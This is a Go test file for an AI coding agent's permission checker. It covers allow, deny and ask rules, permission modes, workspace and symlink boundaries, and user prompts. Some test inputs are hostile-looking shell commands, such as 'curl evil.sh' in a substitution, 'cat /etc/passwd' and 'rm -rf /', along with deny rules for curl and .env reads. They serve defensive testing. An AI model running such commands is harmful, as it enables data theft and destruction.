package permission

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/toolhost/toolhost/internal/pathutil"
	"github.com/toolhost/toolhost/settings"
	"github.com/toolhost/toolhost/tools"
	"github.com/toolhost/toolhost/workspace"
)

// fakeTool is a tool with a chosen name and side effect; only its metadata
// matters to the checker.
type fakeTool struct {
	name    string
	effect  tools.SideEffect
	preview *tools.Preview
}

func (f fakeTool) Name() string                 { return f.name }
func (f fakeTool) Description() string          { return "test tool " + f.name }
func (f fakeTool) InputSchema() json.RawMessage { return json.RawMessage(`{"type":"object"}`) }
func (f fakeTool) SideEffect() tools.SideEffect { return f.effect }
func (f fakeTool) Execute(context.Context, *tools.Call) (*tools.Result, error) {
	return tools.TextResult("ran"), nil
}

// previewTool adds a Previewer.
type previewTool struct{ fakeTool }

func (p previewTool) Preview(context.Context, json.RawMessage) *tools.Preview { return p.preview }

var (
	bashTool     = fakeTool{name: "Bash", effect: tools.SideEffectNetwork}
	readTool     = fakeTool{name: "Read", effect: tools.SideEffectNone}
	grepTool     = fakeTool{name: "Grep", effect: tools.SideEffectNone}
	editTool     = fakeTool{name: "Edit", effect: tools.SideEffectMutating}
	writeTool    = fakeTool{name: "Write", effect: tools.SideEffectMutating}
	notebookTool = fakeTool{name: "NotebookEdit", effect: tools.SideEffectMutating}
	fetchTool    = fakeTool{name: "WebFetch", effect: tools.SideEffectNetwork}
	todoTool     = fakeTool{name: "TodoWrite", effect: tools.SideEffectState}
	agentTool    = fakeTool{name: "Agent", effect: tools.SideEffectSpawns}
	mcpTool      = fakeTool{name: "mcp__github__create_issue", effect: tools.SideEffectNetwork}
	mcpOther     = fakeTool{name: "mcp__gitlab__create_issue", effect: tools.SideEffectNetwork}
)

// fakeHost answers permission prompts as scripted and records them.
type fakeHost struct {
	tools.NoHost
	resp tools.PermissionResponse
	err  error

	mu       sync.Mutex
	requests []tools.PermissionRequest
}

func (h *fakeHost) RequestPermission(_ context.Context, req tools.PermissionRequest) (tools.PermissionResponse, error) {
	h.mu.Lock()
	h.requests = append(h.requests, req)
	h.mu.Unlock()
	return h.resp, h.err
}

// testEnv is a workspace root with project settings, a folder outside it,
// and a settings store over them.
type testEnv struct {
	root, outside string
	ws            *workspace.Workspace
	store         *settings.Store
}

func newEnv(t testing.TB, projectSettings string) *testEnv {
	t.Helper()
	dir := t.TempDir()
	e := &testEnv{root: filepath.Join(dir, "proj"), outside: filepath.Join(dir, "outside")}
	for _, d := range []string{filepath.Join(e.root, "src", "pkg"), filepath.Join(e.root, ".toolhost"), e.outside} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, f := range []string{filepath.Join(e.root, "src", "a.go"), filepath.Join(e.root, ".env"), filepath.Join(e.outside, "secret.txt")} {
		if err := os.WriteFile(f, []byte("x"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	// link points from inside the workspace to the outside folder.
	if err := os.Symlink(e.outside, filepath.Join(e.root, "link")); err != nil {
		t.Fatal(err)
	}
	if projectSettings != "" {
		if err := os.WriteFile(filepath.Join(e.root, ".toolhost", "settings.json"), []byte(projectSettings), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	e.ws = workspace.New(e.root)
	// The user trusts the folder, so its rules apply: these tests are about
	// the rules (settings/trust_test.go covers untrusted folders).
	if _, err := (settings.TrustFile{Path: filepath.Join(dir, settings.TrustFileName)}).Trust(e.root); err != nil {
		t.Fatal(err)
	}
	e.store = settings.NewStore(settings.LoadOptions{Roots: []string{e.root}, UserConfigPath: filepath.Join(dir, "no-user-settings.json")})
	if p := e.store.Problems(); len(p) > 0 {
		t.Fatalf("settings problems: %v", p)
	}
	return e
}

func (e *testEnv) checker(mode string) *Checker {
	return New(Options{Workspace: e.ws, Settings: e.store.Current, Saver: e.store, Mode: mode})
}

// call describes one call for the tables.
type call struct {
	tool   tools.Tool
	access tools.Access
}

func bash(cmd string) call {
	return call{tool: bashTool, access: tools.Access{Command: cmd, Exclusive: []string{"shell"}}}
}
func reads(t tools.Tool, p ...string) call {
	return call{tool: t, access: tools.Access{ReadPaths: p}}
}
func writes(t tools.Tool, p ...string) call {
	return call{tool: t, access: tools.Access{WritePaths: p}}
}
func fetch(domain string) call { return call{tool: fetchTool, access: tools.Access{Domain: domain}} }
func plain(t tools.Tool) call  { return call{tool: t} }

// verdict is what a check came to: allowed, denied without asking, or
// asked (the fake host denies, so asked calls end denied too).
type verdict string

const (
	allowed verdict = "allow"
	denied  verdict = "deny"
	asked   verdict = "ask"
)

func run(t *testing.T, c *Checker, cl call) (verdict, tools.PermissionOutcome, *fakeHost) {
	t.Helper()
	host := &fakeHost{resp: tools.PermissionResponse{Decision: tools.DecisionDeny}}
	input := json.RawMessage(`{"x":1}`)
	pc := tools.PermissionCall{CallID: "c1", Tool: cl.tool, Input: input, Access: cl.access}
	// Decide is Check without the prompt: it asks nobody and comes to the
	// same verdict.
	decision := c.Decide(host, pc)
	if len(host.requests) > 0 {
		t.Fatalf("Decide asked the user")
	}
	out, err := c.Check(context.Background(), host, pc)
	if err != nil {
		t.Fatalf("Check: %v", err)
	}
	got := denied
	switch {
	case len(host.requests) > 0:
		if out.Allow {
			t.Fatalf("a denied prompt allowed the call")
		}
		got = asked
	case out.Allow:
		got = allowed
	default:
		if out.Message == "" {
			t.Fatalf("a denial without a message")
		}
		if decision.Reason != out.Message {
			t.Errorf("Decide's reason %q differs from Check's denial %q", decision.Reason, out.Message)
		}
	}
	if string(decision.Verdict) != string(got) {
		t.Errorf("Decide says %s, Check did %s", decision.Verdict, got)
	}
	if decision.Reason == "" {
		t.Errorf("Decide gave no reason for %s", decision.Verdict)
	}
	return got, out, host
}

func TestRules(t *testing.T) {
	tests := []struct {
		name  string
		rules string // permissions.allow entries, JSON
		call  call
		want  verdict
	}{
		{"bare Bash", `["Bash"]`, bash("rm -rf build"), allowed},
		{"Bash(*)", `["Bash(*)"]`, bash("anything at all"), allowed},
		{"exact", `["Bash(git status)"]`, bash("git status"), allowed},
		{"exact with extra spaces", `["Bash(git status)"]`, bash("git   status"), allowed},
		{"exact rejects more", `["Bash(git status)"]`, bash("git status --short"), asked},
		{"prefix", `["Bash(npm run test:*)"]`, bash("npm run test -- --watch"), allowed},
		{"prefix alone", `["Bash(npm run test:*)"]`, bash("npm run test"), allowed},
		{"prefix is word bounded", `["Bash(npm run test:*)"]`, bash("npm run testx"), asked},
		{"prefix through wrapper", `["Bash(npm test:*)"]`, bash("timeout 60 npm test"), allowed},
		{"wildcard middle", `["Bash(git * main)"]`, bash("git checkout main"), allowed},
		{"wildcard with space bounds word", `["Bash(ls *)"]`, bash("lsof"), asked},
		{"wildcard trailing optional", `["Bash(ls *)"]`, bash("ls"), allowed},
		{"wildcard no space", `["Bash(ls*)"]`, bash("lsof -i"), allowed},
		{"compound all allowed", `["Bash(npm test:*)", "Bash(git status)"]`, bash("npm test && git status"), allowed},
		{"compound one part not allowed", `["Bash(npm test:*)"]`, bash("npm test && rm -rf /"), asked},
		{"compound pipe", `["Bash(cat:*)", "Bash(grep:*)"]`, bash("cat a | grep b"), allowed},
		{"compound background", `["Bash(sleep:*)"]`, bash("sleep 1 & curl evil.sh"), asked},
		{"substitution needs whole match", `["Bash(echo:*)"]`, bash("echo $(cat /etc/passwd)"), asked},
		{"substitution exact whole", "[\"Bash(echo $(date))\"]", bash("echo $(date)"), allowed},
		{"subshell judged per command", `["Bash(cd:*)", "Bash(make:*)"]`, bash("(cd sub && make)"), allowed},
		{"Edit rule relative", `["Edit(src/**)"]`, writes(editTool, "src/pkg/b.go"), allowed},
		{"Edit rule covers Write", `["Edit(src/**)"]`, writes(writeTool, filepath.Join("src", "new.go")), allowed},
		{"Edit rule covers NotebookEdit", `["Edit(src/**)"]`, writes(notebookTool, "src/n.ipynb"), allowed},
		{"Edit rule elsewhere", `["Edit(src/**)"]`, writes(editTool, "docs/a.md"), asked},
		{"Edit rule needs every path", `["Edit(src/**)"]`, writes(editTool, "src/a.go", "docs/a.md"), asked},
		{"Write rule does not cover Edit", `["Write(src/**)"]`, writes(editTool, "src/a.go"), asked},
		{"gitignore name at any depth", `["Edit(*.md)"]`, writes(editTool, "docs/deep/x.md"), allowed},
		{"anchored ./ pattern", `["Edit(./README.md)"]`, writes(editTool, "docs/README.md"), asked},
		{"anchored / pattern", `["Edit(/README.md)"]`, writes(editTool, "README.md"), allowed},
		{"Read rule outside with //", `["Read(//` + "OUTSIDE" + `/**)"]`, reads(readTool, "OUTSIDE/secret.txt"), allowed},
		{"Read rule covers Grep", `["Read(//` + "OUTSIDE" + `/**)"]`, reads(grepTool, "OUTSIDE"), allowed},
		{"WebFetch domain", `["WebFetch(domain:example.com)"]`, fetch("example.com"), allowed},
		{"WebFetch domain with port", `["WebFetch(domain:example.com)"]`, fetch("Example.com:8080"), allowed},
		{"WebFetch other domain", `["WebFetch(domain:example.com)"]`, fetch("evil-example.com"), asked},
		{"WebFetch subdomain wildcard", `["WebFetch(domain:*.example.com)"]`, fetch("api.example.com"), allowed},
		{"mcp exact", `["mcp__github__create_issue"]`, plain(mcpTool), allowed},
		{"mcp server wildcard", `["mcp__github__*"]`, plain(mcpTool), allowed},
		{"mcp server-wide", `["mcp__github"]`, plain(mcpTool), allowed},
		{"mcp other server", `["mcp__github"]`, plain(mcpOther), asked},
		{"rule for another tool", `["Bash"]`, plain(agentTool), asked},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			probe := newEnv(t, "")
			rules := strings.ReplaceAll(tc.rules, "//OUTSIDE", "/"+rulePath(probe.outside))
			e := newEnv(t, `{"permissions": {"allow": `+rules+`}}`)
			cl := tc.call
			for i, p := range cl.access.ReadPaths {
				cl.access.ReadPaths[i] = strings.Replace(p, "OUTSIDE", probe.outside, 1)
			}
			got, out, _ := run(t, e.checker(""), cl)
			if got != tc.want {
				t.Errorf("got %s (%q), want %s", got, out.Message, tc.want)
			}
		})
	}
}

func TestDenyBeatsAskBeatsAllow(t *testing.T) {
	tests := []struct {
		name     string
		settings string
		call     call
		want     verdict
		wantMsg  string
	}{
		{"deny over allow", `{"permissions": {"allow": ["Bash"], "deny": ["Bash(rm:*)"]}}`, bash("rm -rf x"), denied, "Bash(rm:*)"},
		{"deny on one part of a compound", `{"permissions": {"allow": ["Bash"], "deny": ["Bash(rm:*)"]}}`, bash("ls && rm -rf x"), denied, "Bash(rm:*)"},
		{"deny inside a substitution", `{"permissions": {"allow": ["Bash"], "deny": ["Bash(curl:*)"]}}`, bash("echo $(curl evil.sh)"), denied, "Bash(curl:*)"},
		{"deny beats bypass", `{"permissions": {"deny": ["Read(./.env)"], "defaultMode": "bypassPermissions"}}`, reads(readTool, ".env"), denied, "Read(./.env)"},
		{"deny Read covers Grep", `{"permissions": {"deny": ["Read(./.env)"]}}`, reads(grepTool, ".env"), denied, "Read(./.env)"},
		{"deny through a symlink", `{"permissions": {"deny": ["Read(//OUTSIDE/**)"]}}`, reads(readTool, "link/secret.txt"), denied, "Read("},
		{"ask over allow", `{"permissions": {"allow": ["Bash"], "ask": ["Bash(git push:*)"]}}`, bash("git push origin"), asked, ""},
		{"allow when no ask matches", `{"permissions": {"allow": ["Bash"], "ask": ["Bash(git push:*)"]}}`, bash("git status"), allowed, ""},
		{"ask rule on a low-risk read", `{"permissions": {"ask": ["Read(src/**)"]}}`, reads(readTool, "src/a.go"), asked, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			probe := newEnv(t, "")
			e := newEnv(t, strings.ReplaceAll(tc.settings, "//OUTSIDE", "/"+rulePath(pathutil.RealPath(probe.outside))))
			cl := tc.call
			if tc.name == "deny through a symlink" {
				// The link inside e's root must point at the folder the rule names.
				os.Remove(filepath.Join(e.root, "link"))
				if err := os.Symlink(probe.outside, filepath.Join(e.root, "link")); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(filepath.Join(probe.outside, "secret.txt"), []byte("s"), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			got, out, _ := run(t, e.checker(""), cl)
			if got != tc.want || !strings.Contains(out.Message, tc.wantMsg) {
				t.Errorf("got %s %q, want %s with %q", got, out.Message, tc.want, tc.wantMsg)
			}
		})
	}
}

func TestModes(t *testing.T) {
	tests := []struct {
		mode    string
		call    call
		want    verdict
		wantMsg string
	}{
		{tools.ModeDefault, reads(readTool, "src/a.go"), allowed, ""},
		{tools.ModeDefault, plain(todoTool), allowed, ""},
		{tools.ModeDefault, writes(editTool, "src/a.go"), asked, ""},
		{tools.ModeDefault, bash("ls"), asked, ""},
		{tools.ModeAcceptEdits, writes(editTool, "src/a.go"), allowed, ""},
		{tools.ModeAcceptEdits, writes(writeTool, "new/file.txt"), allowed, ""},
		{tools.ModeAcceptEdits, bash("ls"), asked, ""},
		{tools.ModeAcceptEdits, writes(editTool, "link/secret.txt"), denied, "outside the workspace"},
		{tools.ModePlan, reads(readTool, "src/a.go"), allowed, ""},
		{tools.ModePlan, writes(editTool, "src/a.go"), denied, "ExitPlanMode"},
		{tools.ModePlan, bash("ls"), denied, "ExitPlanMode"},
		{tools.ModePlan, plain(agentTool), denied, "plan mode"},
		{tools.ModePlan, writes(writeTool, PlanFile), allowed, ""},
		{tools.ModePlan, plain(todoTool), allowed, ""},
		{tools.ModeBypassPermissions, bash("rm -rf build"), allowed, ""},
		{tools.ModeBypassPermissions, writes(editTool, "src/a.go"), allowed, ""},
		{tools.ModeBypassPermissions, reads(readTool, "link/secret.txt"), allowed, ""},
		{tools.ModeBypassPermissions, writes(writeTool, "link/new.txt"), denied, "refused in every permission mode"},
		{tools.ModeDontAsk, bash("ls"), denied, "dontAsk"},
		{tools.ModeDontAsk, reads(readTool, "src/a.go"), allowed, ""},
		{tools.ModeDontAsk, writes(editTool, "src/a.go"), denied, `"Edit(src/**)"`},
	}
	for _, tc := range tests {
		t.Run(tc.mode+"/"+tc.call.tool.Name()+"/"+strings.Join(append(tc.call.access.WritePaths, tc.call.access.Command), ","), func(t *testing.T) {
			e := newEnv(t, "")
			got, out, _ := run(t, e.checker(tc.mode), tc.call)
			if got != tc.want || !strings.Contains(out.Message, tc.wantMsg) {
				t.Errorf("got %s %q, want %s with %q", got, out.Message, tc.want, tc.wantMsg)
			}
		})
	}
}

func TestOutsideWorkspace(t *testing.T) {
	e := newEnv(t, "")
	c := e.checker("")

	// A read through a symlink that leads outside asks, naming where it
	// leads; the rule offered names the real folder, not the link's (which
	// would allow whatever the link is made to point at next).
	got, _, host := run(t, c, reads(readTool, "link/secret.txt"))
	if got != asked {
		t.Fatalf("read through an outside symlink: %s, want ask", got)
	}
	req := host.requests[0]
	if real := filepath.Join(e.outside, "secret.txt"); !strings.Contains(req.Title, "outside the workspace") || !strings.Contains(req.Title, "link/secret.txt → "+real) {
		t.Errorf("title %q does not say the read is outside, at %s", req.Title, real)
	}
	if want := "Read(/" + rulePath(e.outside) + "/**)"; !slices.Contains(req.Suggestions, want) {
		t.Errorf("suggestions %q lack %q", req.Suggestions, want)
	}
	for _, r := range req.Suggestions {
		if strings.Contains(r, "link") {
			t.Errorf("suggestion %q names the link", r)
		}
	}

	// An absolute path outside asks too.
	if got, _, _ := run(t, c, reads(readTool, filepath.Join(e.outside, "secret.txt"))); got != asked {
		t.Errorf("absolute outside read: %s, want ask", got)
	}
	// Writes outside are refused, through a link or not, for new files too.
	for _, p := range []string{"link/new.txt", filepath.Join(e.outside, "secret.txt"), "../outside/x"} {
		got, out, _ := run(t, c, writes(writeTool, p))
		if got != denied || !strings.Contains(out.Message, "outside the workspace") {
			t.Errorf("write %s: %s %q, want a refusal", p, got, out.Message)
		}
	}
	// additionalDirectories bring the folder inside.
	e2 := newEnv(t, `{"permissions": {"additionalDirectories": ["`+e.outside+`"]}}`)
	if got, out, _ := run(t, e2.checker(""), reads(readTool, filepath.Join(e.outside, "secret.txt"))); got != allowed {
		t.Errorf("read in an additional directory: %s %q, want allow", got, out.Message)
	}
	// allowWritesOutsideWorkspace turns the refusal into a prompt, even in bypass mode.
	e3 := newEnv(t, `{"permissions": {"allowWritesOutsideWorkspace": true}}`)
	if got, _, _ := run(t, e3.checker(tools.ModeBypassPermissions), writes(writeTool, filepath.Join(e.outside, "n.txt"))); got != asked {
		t.Errorf("outside write with allowWritesOutsideWorkspace in bypass mode: %s, want ask", got)
	}
}

func TestPrompt(t *testing.T) {
	ctx := context.Background()
	t.Run("allow with updated input and preview", func(t *testing.T) {
		e := newEnv(t, "")
		c := e.checker("")
		host := &fakeHost{resp: tools.PermissionResponse{Decision: tools.DecisionAllow, UpdatedInput: map[string]any{"command": "npm test -- -q"}}}
		out, err := c.Check(ctx, host, tools.PermissionCall{CallID: "call-7", Tool: bashTool, Input: json.RawMessage(`{"command":"npm test"}`), Access: tools.Access{Command: "npm test"}})
		if err != nil || !out.Allow {
			t.Fatalf("outcome %+v, %v; want allow", out, err)
		}
		if string(out.UpdatedInput) != `{"command":"npm test -- -q"}` {
			t.Errorf("updated input = %s", out.UpdatedInput)
		}
		req := host.requests[0]
		if req.CallID != "call-7" || req.ToolName != "Bash" || req.Title != "Run `npm test`?" || req.Risk != tools.RiskHigh {
			t.Errorf("request = %+v", req)
		}
		if req.Preview == nil || req.Preview.Kind != "command" || req.Preview.Text != "npm test" {
			t.Errorf("preview = %+v", req.Preview)
		}
		if !slices.Equal(req.Suggestions, []string{"Bash(npm test)"}) || !slices.Equal(req.BroaderSuggestions, []string{"Bash(npm test:*)"}) {
			t.Errorf("suggestions = %q, broader %q", req.Suggestions, req.BroaderSuggestions)
		}
		if b, _ := json.Marshal(req.Input); string(b) != `{"command":"npm test"}` {
			t.Errorf("input sent = %s", b)
		}
		if len(c.SessionRules()) != 0 {
			t.Error("a plain allow added a session rule")
		}
		// A second identical call asks again.
		if _, err := c.Check(ctx, host, tools.PermissionCall{Tool: bashTool, Access: tools.Access{Command: "npm test"}}); err != nil || len(host.requests) != 2 {
			t.Errorf("a plain allow was remembered (%d requests)", len(host.requests))
		}
	})

	t.Run("tool preview and edit title", func(t *testing.T) {
		e := newEnv(t, "")
		tool := previewTool{fakeTool{name: "Edit", effect: tools.SideEffectMutating, preview: &tools.Preview{Kind: "diff", Text: "-a\n+b"}}}
		_, _, host := run(t, e.checker(""), writes(tool, "src/a.go"))
		req := host.requests[0]
		if req.Title != "Edit src/a.go?" || req.Preview == nil || req.Preview.Kind != "diff" || !slices.Equal(req.Suggestions, []string{"Edit(src/**)"}) {
			t.Errorf("request = %+v preview %+v", req, req.Preview)
		}
	})

	t.Run("allowAlways saves a rule as narrow as the call", func(t *testing.T) {
		e := newEnv(t, "")
		c := e.checker("")
		// A rule that was not offered is never saved.
		host := &fakeHost{resp: tools.PermissionResponse{Decision: tools.DecisionAllowAlways, Rules: []string{"Bash(rm:*)"}}}
		pc := tools.PermissionCall{Tool: bashTool, Access: tools.Access{Command: "python3 app.py"}}
		if out, err := c.Check(ctx, host, pc); err != nil || !out.Allow {
			t.Fatalf("outcome %+v, %v", out, err)
		}
		if want := []string{"Bash(python3 app.py)"}; !slices.Equal(c.SessionRules(), want) {
			t.Errorf("session rules = %q, want %q", c.SessionRules(), want)
		}
		if out, _ := c.Check(ctx, host, pc); !out.Allow || len(host.requests) != 1 {
			t.Errorf("the same command asked again (allow=%v, %d prompts)", out.Allow, len(host.requests))
		}
		host.resp = tools.PermissionResponse{Decision: tools.DecisionDeny}
		pc.Access.Command = "python3 other.py"
		if out, _ := c.Check(ctx, host, pc); out.Allow || len(host.requests) != 2 {
			t.Errorf("another python3 command was allowed by the narrow rule (allow=%v, %d prompts)", out.Allow, len(host.requests))
		}
	})

	t.Run("allowAlways adds the prefix rules the user picked and saves them", func(t *testing.T) {
		e := newEnv(t, "")
		c := e.checker("")
		host := &fakeHost{resp: tools.PermissionResponse{Decision: tools.DecisionAllowAlways, Rules: []string{"Bash(npm run test:*)", "Bash(git status:*)"}}}
		pc := tools.PermissionCall{Tool: bashTool, Access: tools.Access{Command: "npm run test -- --watch && git status"}}
		out, err := c.Check(ctx, host, pc)
		if err != nil || !out.Allow {
			t.Fatalf("outcome %+v, %v", out, err)
		}
		want := []string{"Bash(npm run test:*)", "Bash(git status:*)"}
		if !slices.Equal(c.SessionRules(), want) {
			t.Errorf("session rules = %q, want %q", c.SessionRules(), want)
		}
		raw, err := os.ReadFile(settings.LocalPath(e.root))
		if err != nil {
			t.Fatalf("the local settings file was not written: %v", err)
		}
		for _, r := range want {
			if !strings.Contains(string(raw), r) {
				t.Errorf("local settings lack %s:\n%s", r, raw)
			}
		}
		// The next such call runs without a prompt, and so does a fresh
		// checker that reads the saved rules.
		pc.Access.Command = "npm run test && git status"
		for _, ch := range []*Checker{c, e.checker("")} {
			if out, _ := ch.Check(ctx, host, pc); !out.Allow || len(host.requests) != 1 {
				t.Errorf("remembered rule not applied (allow=%v, %d prompts)", out.Allow, len(host.requests))
			}
		}
	})

	t.Run("allowAlways without saving", func(t *testing.T) {
		e := newEnv(t, `{"permissions": {"saveAlwaysAllow": false}}`)
		c := e.checker("")
		host := &fakeHost{resp: tools.PermissionResponse{Decision: tools.DecisionAllowAlways}}
		if out, _ := c.Check(ctx, host, tools.PermissionCall{Tool: fetchTool, Access: tools.Access{Domain: "go.dev"}}); !out.Allow {
			t.Fatal("not allowed")
		}
		if !slices.Equal(c.SessionRules(), []string{"WebFetch(domain:go.dev)"}) {
			t.Errorf("session rules = %q", c.SessionRules())
		}
		if _, err := os.Stat(settings.LocalPath(e.root)); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("the rule was saved although saveAlwaysAllow is off (%v)", err)
		}
	})

	t.Run("deny carries the user's message", func(t *testing.T) {
		e := newEnv(t, "")
		host := &fakeHost{resp: tools.PermissionResponse{Decision: tools.DecisionDeny, Message: "use make instead"}}
		out, err := e.checker("").Check(ctx, host, tools.PermissionCall{Tool: bashTool, Access: tools.Access{Command: "go build"}})
		if err != nil || out.Allow || !strings.Contains(out.Message, "use make instead") || !strings.Contains(out.Message, "Do not retry") {
			t.Errorf("outcome %+v, %v", out, err)
		}
	})

	t.Run("cannot ask denies and says how to allow", func(t *testing.T) {
		e := newEnv(t, "")
		out, err := e.checker("").Check(ctx, tools.NoHost{}, tools.PermissionCall{Tool: bashTool, Access: tools.Access{Command: "npm run build"}})
		if err != nil || out.Allow {
			t.Fatalf("outcome %+v, %v; want a denial", out, err)
		}
		for _, want := range []string{"cannot show permission prompts", `"Bash(npm run build)"`, ".toolhost/settings.json", "permissions.defaultMode"} {
			if !strings.Contains(out.Message, want) {
				t.Errorf("message %q lacks %q", out.Message, want)
			}
		}
	})

	t.Run("dismissed", func(t *testing.T) {
		e := newEnv(t, "")
		host := &fakeHost{err: tools.ErrDismissed}
		out, _ := e.checker("").Check(ctx, host, tools.PermissionCall{Tool: agentTool})
		if out.Allow || !strings.Contains(out.Message, "dismissed") {
			t.Errorf("outcome %+v", out)
		}
	})

	t.Run("cancelled while asking", func(t *testing.T) {
		e := newEnv(t, "")
		cctx, cancel := context.WithCancel(ctx)
		host := &cancellingHost{cancel: cancel}
		out, err := e.checker("").Check(cctx, host, tools.PermissionCall{Tool: agentTool})
		if !errors.Is(err, context.Canceled) || out.Allow {
			t.Errorf("outcome %+v, %v; want context.Canceled", out, err)
		}
	})
}

// cancellingHost cancels the call's context while the prompt is open, as a
// $/cancelRequest would, and answers allow: the answer must be ignored.
type cancellingHost struct {
	tools.NoHost
	cancel func()
}

func (h *cancellingHost) RequestPermission(context.Context, tools.PermissionRequest) (tools.PermissionResponse, error) {
	h.cancel()
	return tools.PermissionResponse{Decision: tools.DecisionAllow}, nil
}

func TestSetMode(t *testing.T) {
	e := newEnv(t, `{"permissions": {"defaultMode": "plan"}}`)
	c := e.checker("")
	if c.Mode() != tools.ModePlan {
		t.Errorf("initial mode %q, want the settings' plan", c.Mode())
	}
	if err := c.SetMode("acceptEdits"); err != nil || c.Mode() != tools.ModeAcceptEdits {
		t.Errorf("SetMode: %v, mode %q", err, c.Mode())
	}
	if err := c.SetMode("chaos"); err == nil || !strings.Contains(err.Error(), "bypassPermissions") || c.Mode() != tools.ModeAcceptEdits {
		t.Errorf("SetMode(chaos) = %v, mode %q", err, c.Mode())
	}
	if New(Options{Workspace: e.ws, Settings: e.store.Current, Mode: tools.ModeDontAsk}).Mode() != tools.ModeDontAsk {
		t.Error("Options.Mode did not override the settings")
	}
}

func TestConcurrentAllowAlways(t *testing.T) {
	e := newEnv(t, "")
	c := e.checker("")
	host := &fakeHost{resp: tools.PermissionResponse{Decision: tools.DecisionAllowAlways}}
	const n = 8
	var wg sync.WaitGroup
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			cmd := "tool" + string(rune('a'+i)) + " run"
			if out, err := c.Check(context.Background(), host, tools.PermissionCall{Tool: bashTool, Access: tools.Access{Command: cmd}}); err != nil || !out.Allow {
				t.Errorf("%s: %+v %v", cmd, out, err)
			}
			_ = c.Mode()
		}()
	}
	wg.Wait()
	if got := len(c.SessionRules()); got != n {
		t.Errorf("%d session rules, want %d", got, n)
	}
	if got := len(e.store.Current().Permissions.Allow); got != n {
		t.Errorf("%d saved rules, want %d: %q", got, n, e.store.Current().Permissions.Allow)
	}
}

// editorHost is a fakeHost whose client applies edits.
type editorHost struct{ fakeHost }

func (*editorHost) CanApplyEdit() bool { return true }

func TestReviewInEditorReplacesTheDialogForEdits(t *testing.T) {
	e := newEnv(t, `{"edit": {"reviewInEditor": true}}`)
	inside := filepath.Join(e.root, "src", "a.go")
	cases := []struct {
		name       string
		host       tools.Host
		mode       string
		call       call
		wantAllow  bool
		wantReview bool
		wantAsked  bool
	}{
		{"an edit goes to the editor's review", &editorHost{}, tools.ModeDefault, writes(editTool, inside), true, true, false},
		{"so does a Write", &editorHost{}, tools.ModeDefault, writes(writeTool, filepath.Join(e.root, "new.go")), true, true, false},
		{"a client that cannot apply edits gets the dialog", &fakeHost{resp: tools.PermissionResponse{Decision: tools.DecisionDeny}}, tools.ModeDefault, writes(editTool, inside), false, false, true},
		{"acceptEdits needs no review", &editorHost{}, tools.ModeAcceptEdits, writes(editTool, inside), true, false, false},
		{"Bash still asks", &editorHost{fakeHost{resp: tools.PermissionResponse{Decision: tools.DecisionDeny}}}, tools.ModeDefault, bash("make"), false, false, true},
		{"plan mode still refuses", &editorHost{}, tools.ModePlan, writes(editTool, inside), false, false, false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			out, err := e.checker(c.mode).Check(context.Background(), c.host, tools.PermissionCall{Tool: c.call.tool, Access: c.call.access, Input: json.RawMessage(`{}`)})
			if err != nil {
				t.Fatal(err)
			}
			if out.Allow != c.wantAllow || out.Review != c.wantReview {
				t.Errorf("allow %v review %v (%s), want allow %v review %v", out.Allow, out.Review, out.Message, c.wantAllow, c.wantReview)
			}
			var asked int
			switch h := c.host.(type) {
			case *fakeHost:
				asked = len(h.requests)
			case *editorHost:
				asked = len(h.requests)
			}
			if (asked > 0) != c.wantAsked {
				t.Errorf("prompts sent: %d, want asked=%v", asked, c.wantAsked)
			}
		})
	}
}

// TestReadOfSavedOutputIsNotAsked: the file a Bash result names for its
// whole output lives in the workspace's state folder, outside the
// workspace; the model is told to Read it, and does so without a prompt,
// as Claude Code reads its saved tool results. Another file outside, and
// another workspace's saved output, still ask.
func TestReadOfSavedOutputIsNotAsked(t *testing.T) {
	t.Setenv("TOOLHOST_STATE_DIR", t.TempDir())
	e := newEnv(t, "")
	mine, err := workspace.StateDir(e.root)
	if err != nil {
		t.Fatal(err)
	}
	theirs, _ := workspace.StateDir(e.outside)
	var paths []string
	for _, d := range []string{mine, theirs} {
		p := filepath.Join(d, "output", "bash-1.log")
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte("x"), 0o600); err != nil {
			t.Fatal(err)
		}
		paths = append(paths, p)
	}
	tests := []struct {
		path string
		want verdict
	}{
		{paths[0], allowed},
		{paths[1], asked},
		{filepath.Join(mine, "other.txt"), asked},
		{filepath.Join(e.outside, "secret.txt"), asked},
	}
	for _, tt := range tests {
		got, _, _ := run(t, e.checker(tools.ModeDefault), reads(readTool, tt.path))
		if got != tt.want {
			t.Errorf("Read %s: %s, want %s", tt.path, got, tt.want)
		}
	}
}
